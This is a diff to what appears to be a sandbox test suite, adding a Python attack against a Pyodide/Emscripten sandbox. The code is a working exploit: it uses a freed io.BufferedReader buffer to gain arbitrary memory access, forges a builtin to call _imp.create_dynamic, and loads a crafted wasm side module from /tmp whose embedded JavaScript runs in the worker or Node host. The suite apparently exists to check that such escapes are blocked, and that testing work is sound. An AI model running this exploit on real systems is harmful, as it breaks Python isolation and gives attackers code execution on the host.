@@ -817,6 +817,88 @@ def _attack(*args, **kwargs):
 
 ${NAMES.map((n) => `${n} = _attack`).join("\n")}
 `,
+  // A memory-safety bug of CPython 3.14.2: io.BufferedReader hands its own buffer to a Python raw stream's
+  // readinto and never takes the memoryview back; once the reader is freed, the view reads and writes the
+  // freed block, which a list's items then take: any address becomes an object, and a bytearray over all of
+  // memory follows. With it, the original _imp.create_dynamic loads a side module written to /tmp, whose
+  // __em_js__ string Emscripten's loader evaluates as JavaScript in the worker (in Node without a box: the
+  // host process). The JavaScript writes a mark back; the attack says whether it ran.
+  "a freed io buffer, then JavaScript from a side module": `import io, gc, struct, sys
+def _attack(*args, **kwargs):
+    reached = []
+    try:
+        if sys.platform == "emscripten" and not reached:
+            _reach(reached)
+    except Exception:
+        pass
+    if reached:
+        raise RuntimeError(f"reached {reached}")
+    return [0.0]
+
+def _reach(reached):
+    import importlib.machinery as _m
+    keep = []
+    class Raw(io.RawIOBase):
+        def readable(self): return True
+        def readinto(self, mv):
+            keep.append(mv)
+            return 0
+    r = io.BufferedReader(Raw(), buffer_size=4096)
+    r.read(1)
+    mv = keep.pop()
+    del r
+    gc.collect()
+    L = [None] * 1020
+    if struct.unpack_from("<I", mv, 0)[0] != id(None):
+        return
+    held = []
+    def obj_at(addr):
+        struct.pack_into("<I", mv, 0, addr)
+        o = L[0]
+        struct.pack_into("<I", mv, 0, id(None))
+        return o
+    def hold(b):
+        held.append(b)
+        return id(b) + 16
+    mem = obj_at(hold(struct.pack("<7I", 0x40000000, id(bytearray), 0x7ffffff0, 0x7ffffff0, 0, 0, 0) + b"\\0" * 8))
+    def u32(a): return struct.unpack_from("<I", mem, a)[0]
+    def methoddef(name):
+        at = mem.find(b"\\0" + name + b"\\0", 0x400, 0x800000) + 1
+        return mem.find(struct.pack("<I", at), 0x400, 0x800000)
+    def builtin(defaddr, like):
+        w = [u32(id(like) + 4 * i) for i in range(7)]
+        w[0], w[2], w[5] = 0x40000000, defaddr, 0
+        return obj_at(hold(struct.pack("<7I", *w) + b"\\0" * 8))
+    create_dynamic = builtin(methoddef(b"create_dynamic"), divmod)
+    out = bytearray(64)
+    outaddr = u32(id(out) + 16)
+    js = b"()<::>0; { HEAPU32[%d >>> 2] = 0x4a53; } //\\0" % outaddr
+    addr = hold(js)
+    def sleb(v):
+        b = bytearray()
+        while True:
+            x = v & 0x7f
+            v >>= 7
+            if (v == 0 and not x & 0x40) or (v == -1 and x & 0x40):
+                b.append(x)
+                return bytes(b)
+            b.append(x | 0x80)
+    def sec(i, body): return bytes([i, len(body)]) + body
+    name = b"__em_js__x"
+    so = (b"\\0asm\\x01\\0\\0\\0" + sec(0, b"\\x08dylink.0" + b"\\x01\\x04\\x00\\x00\\x00\\x00")
+          + sec(6, b"\\x01\\x7f\\x00\\x41" + sleb(addr) + b"\\x0b")
+          + sec(7, b"\\x01" + bytes([len(name)]) + name + b"\\x03\\x00"))
+    with open("/tmp/recode_side.so", "wb") as f:
+        f.write(so)
+    try:
+        create_dynamic(_m.ModuleSpec("recode_side", None, origin="/tmp/recode_side.so"))
+    except BaseException:
+        pass
+    if struct.unpack_from("<I", out, 0)[0] == 0x4a53:
+        reached.append("JavaScript from a side module")
+
+${NAMES.map((n) => `${n} = _attack`).join("\n")}
+`,
   // A second _imp gives the original create_builtin, then _pyodide_core, then a JavaScript Object whose
   // prototype gets a getter that rewrites the next run's request (and reads its recorded values).
   "JavaScript prototype getter": `import sys, importlib, importlib.machinery as m
